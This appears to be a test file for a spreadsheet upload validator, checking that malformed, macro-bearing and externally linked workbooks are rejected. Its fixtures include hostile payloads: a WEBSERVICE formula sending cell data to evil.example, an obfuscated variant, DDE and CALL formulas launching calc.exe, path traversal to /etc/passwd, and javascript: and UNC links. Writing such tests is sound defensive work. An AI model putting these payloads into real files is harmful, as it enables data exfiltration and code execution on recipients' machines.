import {
  contentTypes,
  plainRows,
  rawWorkbook,
  relations,
  workbookParts,
  workbookWith,
} from '../testing/raw-workbooks.ts'
import { rawZip } from '../testing/raw-zips.ts'
import { type Hostile, testHostile } from '../testing/trials.ts'

const good = rawWorkbook()
const first = 'xl/worksheets/sheet1.xml'
const part = (name: string, content: string | Buffer = '<x/>') => rawWorkbook({ [name]: content })
const type = (content: string) => contentTypes(`<Override PartName="/xl/x.bin" ContentType="${content}"/>`)
const formula = (text: string) => workbookWith(`${plainRows}<row r="3"><c r="A3"><f>${text}</f><v>1</v></c></row>`)
const rels = (...targets: string[][]) => part('xl/worksheets/_rels/sheet1.xml.rels', relations(targets))
const workbook = (inner: string) => {
  const own = String(workbookParts().find(({ name }) => name === 'xl/workbook.xml')!.bytes)
  return rawWorkbook({ 'xl/workbook.xml': own.replace('</sheets>', `</sheets>${inner}`) })
}
const shapes: Hostile[] = [
  ['a zip that is not a workbook', 'excel', () => rawZip([{ name: 'a.xml', bytes: '<a/>' }]), 'notWorkbook'],
  ['a CSV zip as a workbook', 'excel', () => rawZip([{ name: 'a.csv', bytes: 'a\n1\n' }]), 'workbookForeignPart'],
  [
    'a Word document',
    'excel',
    () =>
      rawWorkbook({
        '[Content_Types].xml': contentTypes().replaceAll('spreadsheetml.sheet', 'wordprocessingml.document'),
      }),
    'notWorkbook',
  ],
  ['a workbook without content types', 'excel', () => rawWorkbook({ '[Content_Types].xml': null }), 'notWorkbook'],
  ['a workbook without relations', 'excel', () => rawWorkbook({ '_rels/.rels': null }), 'notWorkbook'],
  [
    'a workbook without a sheet',
    'excel',
    () => rawWorkbook({ 'xl/_rels/workbook.xml.rels': relations([]) }),
    'notWorkbook',
  ],
  ['a sheet that is missing', 'excel', () => rawWorkbook({ [first]: null }), 'workbookDamaged'],
  [
    'a sheet above the archive',
    'excel',
    () => rawWorkbook({ 'xl/_rels/workbook.xml.rels': relations([['worksheet', '../../../etc/passwd']]) }),
    'workbookDamaged',
  ],
  [
    'a template',
    'excel',
    () => rawWorkbook({ '[Content_Types].xml': contentTypes().replace('.sheet.main', '.template.main') }),
    'notWorkbook',
  ],
  ['hostile metadata', 'metadata', () => part('xl/vbaProject.bin'), 'workbookMacros'],
]

const macros: Hostile[] = [
  [
    'a macro workbook',
    'excel',
    () =>
      rawWorkbook({
        '[Content_Types].xml': contentTypes().replace(
          /"[^"]*sheet\.main\+xml"/,
          '"application/vnd.ms-excel.sheet.macroEnabled.main+xml"',
        ),
      }),
    'workbookMacros',
  ],
  [
    'an add-in',
    'excel',
    () => rawWorkbook({ '[Content_Types].xml': type('application/vnd.ms-excel.addin.macroEnabled.main+xml') }),
    'workbookMacros',
  ],
  ['macros by name', 'excel', () => part('xl/vbaProject.bin'), 'workbookMacros'],
  ['macros in other letters', 'excel', () => part('xl/VBAPROJECT.BIN'), 'workbookMacros'],
  [
    'macros by type',
    'excel',
    () => rawWorkbook({ '[Content_Types].xml': type('application/vnd.ms-office.vbaProject') }),
    'workbookMacros',
  ],
  ['controls', 'excel', () => part('xl/activeX/activeX1.xml'), 'workbookMacros'],
  ['a macro sheet', 'excel', () => part('xl/macrosheets/sheet1.xml'), 'workbookMacros'],
  ['a ribbon of its own', 'excel', () => part('customUI/customUI.xml'), 'workbookMacros'],
  [
    'a name that runs at opening',
    'excel',
    () => workbook('<definedNames><definedName name="_xlnm.Auto_Open">a!A1</definedName></definedNames>'),
    'workbookMacros',
  ],
  ['an embedded object', 'excel', () => part('xl/embeddings/oleObject1.bin'), 'workbookForeignPart'],
  ['a program as a part', 'excel', () => part('xl/media/a.exe'), 'workbookForeignPart'],
  ['a script as a part', 'excel', () => part('xl/a.js'), 'workbookForeignPart'],
  ['a zip as a picture', 'excel', () => part('xl/media/image1.png', good), 'zipNested'],
  [
    'a compound document as printer settings',
    'excel',
    () => part('xl/printerSettings/printerSettings1.bin', Buffer.from('d0cf11e0a1b11ae1', 'hex')),
    'zipNested',
  ],
]

const outside: Hostile[] = [
  ['a linked workbook', 'excel', () => part('xl/externalLinks/externalLink1.xml'), 'workbookOutsideLink'],
  ['a connection', 'excel', () => part('xl/connections.xml'), 'workbookOutsideLink'],
  ['a query', 'excel', () => part('xl/queryTables/queryTable1.xml'), 'workbookOutsideLink'],
  [
    'a picture from outside',
    'excel',
    () => rels(['image', 'https://evil.example/a.png', 'External']),
    'workbookOutsideLink',
  ],
  [
    'a template from outside',
    'excel',
    () => rels(['attachedTemplate', 'file://host/share/a.xltm', 'External']),
    'workbookOutsideLink',
  ],
  [
    'a share of another machine',
    'excel',
    () => rels(['hyperlink', '\\\\host\\share\\a.exe', 'External']),
    'workbookOutsideLink',
  ],
  [
    'a link that runs a script',
    'excel',
    () => rels(['hyperlink', 'javascript:alert(1)', 'External']),
    'workbookOutsideLink',
  ],
  [
    'a link to a local file',
    'excel',
    () => rels(['hyperlink', 'file:///etc/passwd', 'External']),
    'workbookOutsideLink',
  ],
  [
    'an outside target that does not say so',
    'excel',
    () => rels(['image', 'https://evil.example/a.png']),
    'workbookOutsideLink',
  ],
  [
    'a formula that fetches',
    'excel',
    () => formula('WEBSERVICE("https://evil.example/?"&amp;A1)'),
    'workbookOutsideLink',
  ],
  [
    'a formula that fetches, in pieces',
    'excel',
    () => formula('WEB<!-- -->SERV<![CDATA[ICE]]>(A1)'),
    'workbookOutsideLink',
  ],
  ['a formula that starts a program', 'excel', () => formula("cmd|'/C calc.exe'!A0"), 'workbookOutsideLink'],
  [
    'a formula that calls a library',
    'excel',
    () => formula('CALL("Kernel32","WinExec","JCJ","calc",0)'),
    'workbookOutsideLink',
  ],
  ['a formula into another workbook', 'excel', () => formula("'[secret.xlsx]Sheet1'!A1"), 'workbookOutsideLink'],
  [
    'a name that fetches',
    'excel',
    () => workbook('<definedNames><definedName name="n">_xlfn.WEBSERVICE("h")</definedName></definedNames>'),
    'workbookOutsideLink',
  ],
]

await testHostile([...shapes, ...macros, ...outside], () => ({ excel: good }))
